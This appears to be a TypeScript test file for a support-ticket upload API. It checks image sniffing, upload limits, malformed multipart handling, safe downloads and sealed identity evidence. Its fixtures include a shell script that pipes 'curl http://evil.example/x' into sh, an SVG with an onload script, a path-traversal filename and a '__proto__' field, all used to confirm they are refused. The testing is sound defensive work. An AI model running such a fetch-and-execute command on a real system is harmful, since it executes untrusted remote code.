/**
 * Ticket uploads: images are checked by their bytes, limits answer 4010 / 4020, a refused upload
 * stores nothing (no row, no file, no mail), malformed multipart answers the catalog, files are
 * served only as downloads of their sniffed type, and identity evidence is sealed on disk and
 * readable by staff only.
 */
import { readFileSync } from 'node:fs';
import { expect, it } from 'vitest';
import { describeEachBackend } from './support/backends.js';
import { bearer, createHarness, get, json, staffSession, type Harness } from './support/harness.js';
import { fileAndConfirm, fileTicket, multipart, screenshot, storedFiles, supportOverrides, ticketAuth, ticketRowCount } from './support/multipart.js';
import { TINY_GIF, TINY_PNG, TINY_WEBP, pngOfSize } from './support/images.js';
import { entryByCode } from '../src/errors/lookup.js';

const FIELDS = { email: 'up@example.com', category: 'account_frozen', description: 'Frozen after a trip.' };
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');

async function expectNothingStored(h: Harness) {
  expect(await ticketRowCount(h)).toBe(0);
  expect(storedFiles(h)).toEqual([]);
  expect(json(await get(h, '/api/v1/dev/outbox?to=up@example.com'))).toEqual([]);
}

function expectCatalog(response: { statusCode: number; body: string; headers: Record<string, unknown> }, code: number) {
  const body = json(response as never);
  expect(body.code, response.body).toBe(code);
  expect(entryByCode(code)!.httpStatus).toBe(response.statusCode);
  expect(String(response.headers['content-type'])).toMatch(/^application\/json/);
  expect(response.body).not.toMatch(/FST_|busboy|Error:|node_modules/);
  return body;
}

describeEachBackend('ticket uploads', (backend) => {
  it('refuses a script renamed .png (4010), a 6 MB image and a fourth file (4020), storing nothing', async () => {
    const h = await createHarness(backend, supportOverrides());
    const script = await fileTicket(h, FIELDS, [{ field: 'attachments', filename: 'screenshot.png', contentType: 'image/png', bytes: SCRIPT }]);
    expect(script.statusCode).toBe(400);
    expect(expectCatalog(script, 4010).details.fields).toEqual({ attachments: 'not a PNG, JPEG, WebP or GIF image' });
    await expectNothingStored(h);

    const big = await fileTicket(h, FIELDS, [screenshot(), screenshot(pngOfSize(6 * 1024 * 1024), 'big.png')]);
    expect(big.statusCode).toBe(413);
    expectCatalog(big, 4020);
    await expectNothingStored(h);

    const four = await fileTicket(h, FIELDS, [screenshot(), screenshot(TINY_GIF, 'a.gif'), screenshot(TINY_WEBP, 'b.webp'), screenshot()]);
    expect(four.statusCode).toBe(413);
    expect(expectCatalog(four, 4020).details).toMatchObject({ field: 'attachments', maxFiles: 3 });
    await expectNothingStored(h);

    // an SVG (script inside an image type) and a declared-PNG HTML page are refused the same way
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');
    expect((await fileTicket(h, FIELDS, [{ field: 'attachments', filename: 'x.svg', contentType: 'image/svg+xml', bytes: svg }])).statusCode).toBe(400);
    expect((await fileTicket(h, FIELDS, [{ field: 'idPhoto', filename: 'id.jpg', contentType: 'image/jpeg', bytes: Buffer.from('<html>') }])).statusCode).toBe(
      400,
    );
    await expectNothingStored(h);

    // exactly at the limits it works: three images, one of them just under 5 MB
    const ok = await fileTicket(h, FIELDS, [screenshot(pngOfSize(5 * 1024 * 1024 - 200_000)), screenshot(TINY_GIF, 'a.gif'), screenshot(TINY_WEBP, 'b.webp')]);
    expect(ok.statusCode, ok.body).toBe(201);
    expect(storedFiles(h)).toHaveLength(3);
  });

  it('refuses a body declared bigger than any upload before reading it (4020, connection closed)', async () => {
    const h = await createHarness(backend, supportOverrides());
    const body = multipart(FIELDS);
    const response = await h.app.inject({
      method: 'POST',
      url: '/api/v1/tickets',
      payload: body.payload,
      headers: { ...body.headers, 'content-length': String(40 * 1024 * 1024) },
    });
    expectCatalog(response, 4020);
    expect(response.headers.connection).toBe('close');
    await expectNothingStored(h);
  });

  it('answers malformed multipart with catalog codes, never 500', async () => {
    const h = await createHarness(backend, supportOverrides());
    const boundary = 'xyz';
    const type = { 'content-type': `multipart/form-data; boundary=${boundary}` };
    const cases: Array<[string, Buffer | string, Record<string, string>]> = [
      ['no closing boundary', `--${boundary}\r\ncontent-disposition: form-data; name="email"\r\n\r\nup@example.com`, type],
      ['garbage', Buffer.from([0, 1, 2, 3, 255, 254]), type],
      ['empty', '', type],
      ['no boundary parameter', `--${boundary}--\r\n`, { 'content-type': 'multipart/form-data' }],
      ['header without name', `--${boundary}\r\ncontent-disposition: form-data\r\n\r\nx\r\n--${boundary}--\r\n`, type],
      ['__proto__ field', `--${boundary}\r\ncontent-disposition: form-data; name="__proto__"\r\n\r\nx\r\n--${boundary}--\r\n`, type],
      [
        'JSON field that is not JSON',
        `--${boundary}\r\ncontent-disposition: form-data; name="description"\r\ncontent-type: application/json\r\n\r\n{oops\r\n--${boundary}--\r\n`,
        type,
      ],
      ['unknown file field', multipart(FIELDS, [{ field: 'avatar', filename: 'a.png', bytes: TINY_PNG }]).payload, multipart(FIELDS).headers],
      ['text/plain', 'email=up@example.com', { 'content-type': 'text/plain' }],
      ['urlencoded', 'email=up%40example.com', { 'content-type': 'application/x-www-form-urlencoded' }],
      ['JSON array', '[]', { 'content-type': 'application/json' }],
      ['JSON with a number', JSON.stringify({ ...FIELDS, errorCode: 4002 }), { 'content-type': 'application/json' }],
    ];
    for (const [name, payload, headers] of cases) {
      // the unknown-field case carries its own boundary: rebuild it so body and header match
      const request = name === 'unknown file field' ? multipart(FIELDS, [{ field: 'avatar', filename: 'a.png', bytes: TINY_PNG }]) : { payload, headers };
      const response = await h.app.inject({ method: 'POST', url: '/api/v1/tickets', payload: request.payload, headers: request.headers });
      expect(response.statusCode, `${name}: ${response.body}`).toBeGreaterThanOrEqual(400);
      expect(response.statusCode, `${name}: ${response.body}`).toBeLessThan(500);
      expectCatalog(response, json(response).code);
      expect([4010, 4020], name).toContain(json(response).code);
    }
    // a flood of unknown fields is refused at the first (4010); a flood of files at the parser's file limit (4020)
    const flood = multipart(Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`f${i}`, 'x'])));
    expectCatalog(await h.app.inject({ method: 'POST', url: '/api/v1/tickets', payload: flood.payload, headers: flood.headers }), 4010);
    const files = multipart(
      FIELDS,
      Array.from({ length: 12 }, () => screenshot()),
    );
    expectCatalog(await h.app.inject({ method: 'POST', url: '/api/v1/tickets', payload: files.payload, headers: files.headers }), 4020);
    await expectNothingStored(h);
  });

  it('serves an attachment as a download of its sniffed type, never under the client’s name', async () => {
    const h = await createHarness(backend, supportOverrides());
    const { id, accessToken } = await fileAndConfirm(h, { ...FIELDS, category: 'other' }, [
      { field: 'attachments', filename: '../../etc/passwd.html', contentType: 'text/html', bytes: TINY_GIF },
    ]);
    expect(storedFiles(h).some((path) => path.includes('passwd') || path.endsWith('.html'))).toBe(false);
    const ticket = json(await get(h, `/api/v1/tickets/${id}`, ticketAuth(accessToken)));
    const file = ticket.messages[0].attachments[0];
    expect(file).toMatchObject({ kind: 'attachment', mediaType: 'image/gif', sizeBytes: TINY_GIF.length });
    const download = await get(h, `/api/v1/tickets/${id}/attachments/${file.id}`, ticketAuth(accessToken));
    expect(download.statusCode).toBe(200);
    expect(download.headers['content-type']).toBe('image/gif');
    expect(download.headers['x-content-type-options']).toBe('nosniff');
    expect(download.headers['content-disposition']).toBe(`attachment; filename="ticket-${id}-${file.id}.gif"`);
    expect(download.rawPayload.equals(TINY_GIF)).toBe(true);
    expect((await get(h, `/api/v1/tickets/${id}/attachments/${file.id}`)).statusCode).toBe(401);
    const staff = await staffSession(h, 'desk@example.com', 'support');
    const staffDownload = await get(h, `/api/v1/admin/tickets/${id}/attachments/${file.id}`, bearer(staff.token));
    expect(staffDownload.headers['content-type']).toBe('image/gif');
    expect(staffDownload.rawPayload.equals(TINY_GIF)).toBe(true);
  });

  it('seals identity evidence on disk and shows it to staff only (each view audited)', async () => {
    const h = await createHarness(backend, supportOverrides());
    const idPhoto = pngOfSize(20_000);
    const { id, accessToken } = await fileAndConfirm(h, FIELDS, [
      screenshot(),
      { field: 'idPhoto', filename: 'id.png', bytes: idPhoto },
      { field: 'selfie', filename: 'me.png', bytes: TINY_PNG },
    ]);
    // on disk: the screenshot as it came, the evidence not recognizable
    const contents = storedFiles(h).map((path) => readFileSync(path));
    expect(contents.some((c) => c.equals(TINY_PNG))).toBe(true);
    expect(contents.some((c) => c.includes(idPhoto.subarray(100, 164)))).toBe(false);
    expect(contents.filter((c) => c.toString('latin1').startsWith('v1.'))).toHaveLength(2);

    const requesterView = json(await get(h, `/api/v1/tickets/${id}`, ticketAuth(accessToken)));
    expect(requesterView.evidence).toEqual({ requested: true, idPhoto: true, selfie: true });
    expect(requesterView.messages[0].attachments.map((a: { kind: string }) => a.kind)).toEqual(['attachment']);
    const staff = await staffSession(h, 'desk@example.com', 'support');
    const staffView = json(await get(h, `/api/v1/admin/tickets/${id}`, bearer(staff.token)));
    const evidence = staffView.ticket.messages[0].attachments.filter((a: { kind: string }) => a.kind === 'id_photo');
    expect(evidence).toHaveLength(1);
    // the requester's token cannot fetch it even knowing its id
    expect((await get(h, `/api/v1/tickets/${id}/attachments/${evidence[0].id}`, ticketAuth(accessToken))).statusCode).toBe(404);
    const opened = await get(h, `/api/v1/admin/tickets/${id}/attachments/${evidence[0].id}`, bearer(staff.token));
    expect(opened.headers['content-type']).toBe('image/png');
    expect(opened.rawPayload.equals(idPhoto)).toBe(true);
    const admin = await staffSession(h, 'root@example.com', 'admin');
    const audit = json(await get(h, `/api/v1/admin/audit?action=ticket.evidence.view&target=${id}`, bearer(admin.token)));
    expect(audit.items).toEqual([
      expect.objectContaining({ actor: 'desk@example.com', ip: '127.0.0.1', detail: { fileId: evidence[0].id, kind: 'id_photo' } }),
    ]);
  });

  it('takes identity evidence only on account_frozen and reset_2fa tickets', async () => {
    const h = await createHarness(backend, supportOverrides());
    const refused = await fileTicket(h, { ...FIELDS, category: 'other' }, [{ field: 'selfie', filename: 'me.png', bytes: TINY_PNG }]);
    expect(expectCatalog(refused, 4010).details.fields).toHaveProperty('selfie');
    const twice = await fileTicket(h, FIELDS, [
      { field: 'selfie', filename: 'a.png', bytes: TINY_PNG },
      { field: 'selfie', filename: 'b.png', bytes: TINY_PNG },
    ]);
    expect(expectCatalog(twice, 4020).details).toMatchObject({ field: 'selfie', maxFiles: 1 });
    await expectNothingStored(h);
  });
});
